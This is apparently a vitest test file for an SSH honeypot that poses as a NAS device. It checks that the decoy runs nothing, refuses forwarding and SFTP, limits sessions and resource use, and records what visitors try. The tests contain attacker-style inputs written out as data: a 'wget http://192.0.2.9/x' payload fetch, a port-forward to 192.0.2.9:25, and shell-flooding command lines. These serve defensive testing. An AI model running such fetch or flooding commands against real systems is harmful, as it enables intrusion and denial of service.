import type { EventEmitter } from 'node:events'
import { createRequire } from 'node:module'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { type Opened, opened, profileOf } from '../../testing/opened.ts'

interface TestShell extends NodeJS.ReadWriteStream {
  outgoing: { id: number }
}
interface TestClient extends EventEmitter {
  _protocol: { channelWindowAdjust(channel: number, bytes: number): void }
  connect(to: Record<string, unknown>): void
  end(): void
  exec(command: string, done: (error: Error | undefined, stream: NodeJS.ReadableStream) => void): void
  shell(done: (error: Error | undefined, stream: TestShell) => void): void
  sftp(done: (error?: Error) => void): void
  forwardOut(from: string, fromPort: number, to: string, toPort: number, done: (error?: Error) => void): void
  forwardIn(address: string, port: number, done: (error?: Error) => void): void
}
/** The client of the same library, from within tests only. */
const { Client } = createRequire(import.meta.url)('ssh2') as { Client: new () => TestClient }

let open: Opened
beforeAll(async () => {
  const options = { banner: 'SSH-2.0-OpenSSH_7.4', hostname: 'nas', prompt: '# ' }
  open = await opened(
    profileOf([{ port: 22, protocol: 'ssh', options }], [{ user: 'root', password: 'toor' }]),
  )
})
afterAll(() => open.decoys.close())

const connected = (password: string, more = {}) =>
  new Promise<TestClient>((resolve, reject) => {
    open.said.length = 0
    const client = new Client()
    client.on('ready', () => resolve(client)).on('error', reject)
    client.connect({ host: '127.0.0.1', port: open.at(22), username: 'root', password, ...more })
  })
const printedBy = (client: TestClient, command: string) =>
  new Promise<string>((resolve, reject) =>
    client.exec(command, (error, stream) => (error ? reject(error) : resolve(all(stream)))),
  )
const all = (stream: NodeJS.ReadableStream) =>
  new Promise<string>((resolve) => {
    let text = ''
    stream.on('data', (bytes) => (text += bytes)).on('close', () => resolve(text))
  })

it('runs nothing, answers as a device, and tells what it was told', async () => {
  const client = await connected('toor')
  const printed = await printedBy(client, 'uname -n; wget http://192.0.2.9/x')
  client.end()
  expect(printed).toBe('nas\n')
  expect(open.events()).toMatchObject([
    { kind: 'login', protocol: 'ssh', user: 'root', password: 'toor', accepted: true },
    { kind: 'command', text: 'uname -n; wget http://192.0.2.9/x' },
    { kind: 'link', url: 'http://192.0.2.9/x' },
  ])
})

it('has a terminal with echo and prompt', async () => {
  const client = await connected('toor')
  const printed = await new Promise<string>((resolve) =>
    client.shell((_error, stream) => {
      resolve(all(stream))
      stream.write('idx\x7f\rexit\r')
    }),
  )
  client.end()
  expect(printed).toBe('# idx\b \b\r\nuid=0(root) gid=0(root) groups=0(root)\r\n# exit\r\n')
})

it('lets in by keyboard-interactive as well, and nobody with another password', async () => {
  await expect(connected('wrong')).rejects.toThrow('authentication methods failed')
  expect(open.events()).toMatchObject([{ password: 'wrong', accepted: false }])
  const client = new Client()
  await new Promise((resolve, reject) => {
    client.on('keyboard-interactive', (...input: unknown[]) => (input[4] as (a: string[]) => void)(['toor']))
    client.on('ready', resolve).on('error', reject)
    client.connect({ host: '127.0.0.1', port: open.at(22), username: 'root', tryKeyboard: true })
  })
  client.end()
})

it('forwards nothing and has no files, and tells who asked', async () => {
  const client = await connected('toor')
  const refused = (ask: (done: (error?: Error) => void) => void) =>
    new Promise((resolve) => ask((error) => resolve(error instanceof Error)))
  expect(await refused((done) => client.forwardOut('127.0.0.1', 1, '192.0.2.9', 25, done))).toBe(true)
  expect(await refused((done) => client.forwardIn('0.0.0.0', 8080, done))).toBe(true)
  expect(await refused((done) => client.sftp(done))).toBe(true)
  client.end()
  expect(open.events().slice(1)).toMatchObject([
    { text: 'direct-tcpip 192.0.2.9:25' },
    { text: 'tcpip-forward 0.0.0.0:8080' },
    { text: 'subsystem sftp' },
  ])
})

it('opens ten sessions of a connection and no more', async () => {
  const client = await connected('toor')
  const isOpened = () =>
    new Promise<boolean>((resolve) => client.shell((error) => resolve(error === undefined)))
  const opened: boolean[] = []
  for (let i = 0; i < 12; i++) opened.push(await isOpened())
  client.end()
  expect(opened).toEqual([...Array<boolean>(10).fill(true), false, false])
})

it('runs no more of what is given to `sh` in all sessions of a connection together', async () => {
  const client = await connected('toor')
  const line = `echo "${'echo -n x;'.repeat(64)}">/g;${'cat /g|sh;'.repeat(8)}`
  let run = 0
  for (let session = 0; session < 10; session++)
    run += (await printedBy(client, line)).match(/x/g)?.length ?? 0
  client.end()
  expect(run).toBeGreaterThan(256)
  expect(run).toBeLessThanOrEqual(1024)
})

it('ends a shell whose answers nobody reads: they would fill the memory', async () => {
  const client = await connected('toor')
  const before = open.decoys.losses()['events'] ?? 0
  const lines = 20_000
  await new Promise<void>((resolve) =>
    client.shell((_error, stream) => stream.once('exit', resolve).write('busybox\n'.repeat(lines))),
  )
  client.end()
  expect((open.decoys.losses()['events'] ?? 0) - before).toBeLessThan(lines / 2)
})

it('answers all lines that came at once, also where nothing comes after them', async () => {
  const client = await connected('toor')
  const printed = await new Promise<string>((resolve) =>
    client.shell((_error, stream) => {
      resolve(all(stream))
      stream.end('busybox\n'.repeat(500))
    }),
  )
  client.end()
  expect(printed.match(/BusyBox v/g)).toHaveLength(500)
})

it('runs no more lines than have room on the wire, however wide the window of the visitor', async () => {
  const client = await connected('toor')
  const lines = 5000
  const before = open.decoys.losses()['events'] ?? 0
  const closed = new Promise((resolve) => client.once('close', resolve))
  client.on('error', () => {})
  client.shell((_error, stream) => {
    client._protocol.channelWindowAdjust(stream.outgoing.id, 0x7000_0000)
    stream.resume().write(`echo ${'a'.repeat(3000)}>f\n${'cat f f f f f f f f f f\n'.repeat(lines)}`)
  })
  // What it is answered is more than one connection may bring.
  await closed
  const run = open.events().length + (open.decoys.losses()['events'] ?? 0) - before
  expect(run).toBeGreaterThan(50)
  expect(run).toBeLessThan(500)
})

it('says hello once, as the profile has it, before anything is known of the client', async () => {
  const client = await connected('toor')
  client.end()
  const wrote = Buffer.concat(open.said.flatMap((one) => (one.what === 'wrote' ? [one.bytes] : [])))
  expect(wrote.toString('latin1').match(/SSH-2\.0-[^\r]*\r\n/g)).toEqual(['SSH-2.0-OpenSSH_7.4\r\n'])
  const read = Buffer.concat(open.said.flatMap((one) => (one.what === 'read' ? [one.bytes] : [])))
  expect(read.toString('latin1')).toContain('SSH-2.0-ssh2js')
})
